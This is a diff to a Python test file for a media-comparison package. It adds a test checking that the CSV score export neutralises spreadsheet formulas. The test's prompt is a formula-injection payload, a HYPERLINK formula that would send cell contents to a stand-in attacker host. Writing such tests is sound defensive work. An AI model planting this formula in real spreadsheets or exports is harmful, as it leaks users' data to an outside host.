@@ -33,6 +33,7 @@ from bivdiff.compare.paper import FILES as PAPER_FILES
 from bivdiff.compare.paper import Material, PaperRow, latex_table, material_of, write_paper
 from bivdiff.compare.scores import RULE, Recommendation
 from bivdiff.compare.sweep import Cell, SweepResult, paper_cell
+from bivdiff.compare.tables import scores_csv
 from bivdiff.errors import BIVDiffError, InputError
 from bivdiff.media import carried
 from bivdiff.media.film import GAP, PAPER
@@ -179,6 +180,13 @@ def test_the_contact_sheet_has_a_row_per_clip_and_a_column_per_frame(paths, resu
         for column in range(COUNT):
             middle = sheet[row * tall + 19 + HEIGHT, 4 + column * (2 * WIDTH + 4) + WIDTH]
             assert np.array_equal(middle, frames[column, 0, 0])
+
+
+def test_a_prompt_that_a_spreadsheet_would_compute_is_text_in_the_scores(result):
+    prompt = '=HYPERLINK("http://evil.example/?"&A1,"a cube")'
+    cells = tuple(replace(cell, request=replace(cell.request, prompt=prompt)) for cell in result.cells)
+    rows = list(csv.DictReader(io.StringIO(scores_csv(replace(result, cells=cells)))))
+    assert {row["prompt"] for row in rows} == {f"'{prompt}"}
 
 
 def test_the_scores_are_those_of_the_cells(paths, result):
